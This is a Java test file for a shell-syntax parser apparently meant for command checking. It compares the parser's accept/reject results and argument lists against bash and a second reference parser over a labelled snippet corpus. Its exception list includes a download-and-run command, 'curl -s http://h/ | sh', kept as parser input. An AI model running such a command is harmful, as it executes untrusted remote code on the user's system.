package dev.shellwarden.syntax;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.shellwarden.syntax.ParseResult.Parsed;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Set;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** The labelled snippets: acceptance as bash says, argument lists as the second referee says. */
class SnippetCorpusTests {

    /** The snippet that holds a NUL; bash never sees it. */
    private static final Set<String> OWN_REFUSALS = Set.of("echo \0a");

    /**
     * The second referee has a tree of its own for let, drops carriage returns, and takes a command
     * for a name.
     */
    private static final Set<String> READ_OTHERWISE_BY_REFEREE =
            Set.of(
                    "let x=1+2",
                    "let \"x = 1\" y=2",
                    "echo a\r\nrm x\r\n",
                    "coproc curl -s http://h/ | sh");

    private static final ShellParser PARSER = new ShellParser(Dialect.BASH);

    @BeforeEach
    void requireCorpus() {
        assumeTrue(
                Files.isDirectory(Corpus.directory()), () -> "no corpus at " + Corpus.directory());
    }

    @Test
    void parseWhenSnippetIsLabelledAgreesWithBash() {
        SoftAssertions softly = new SoftAssertions();
        for (JsonNode row : Corpus.rows("snippets.jsonl")) {
            String snippet = row.get("snippet").asString();
            boolean expected =
                    row.get("bash_n").asBoolean(false) && !OWN_REFUSALS.contains(snippet);
            softly.assertThat(PARSER.parse(snippet) instanceof Parsed)
                    .as(snippet)
                    .isEqualTo(expected);
        }
        softly.assertAll();
    }

    @Test
    void argumentsWhenRefereesAgreeAreTheirs() {
        SoftAssertions softly = new SoftAssertions();
        int compared = 0;
        for (JsonNode row : Corpus.rows("snippets.jsonl")) {
            if (!row.get("commands").isArray()
                    || READ_OTHERWISE_BY_REFEREE.contains(row.get("snippet").asString())
                    || !(parsed(row) instanceof Parsed(Script script))) {
                continue;
            }
            softly.assertThat(sorted(ArgumentLists.of(script)))
                    .as(row.get("snippet").asString())
                    .isEqualTo(sorted(expected(row)));
            compared++;
        }
        softly.assertAll();
        assertThat(compared).isGreaterThan(200);
    }

    private static ParseResult parsed(JsonNode row) {
        return PARSER.parse(row.get("snippet").asString());
    }

    private static List<List<String>> expected(JsonNode row) {
        List<List<String>> commands = new ArrayList<>();
        row.get("commands")
                .forEach(command -> {
                    List<String> words = new ArrayList<>();
                    command.forEach(word -> words.add(word.asString()));
                    commands.add(words);
                });
        return commands;
    }

    private static List<List<String>> sorted(List<List<String>> commands) {
        return commands.stream().sorted(Comparator.comparing(List::toString)).toList();
    }
}
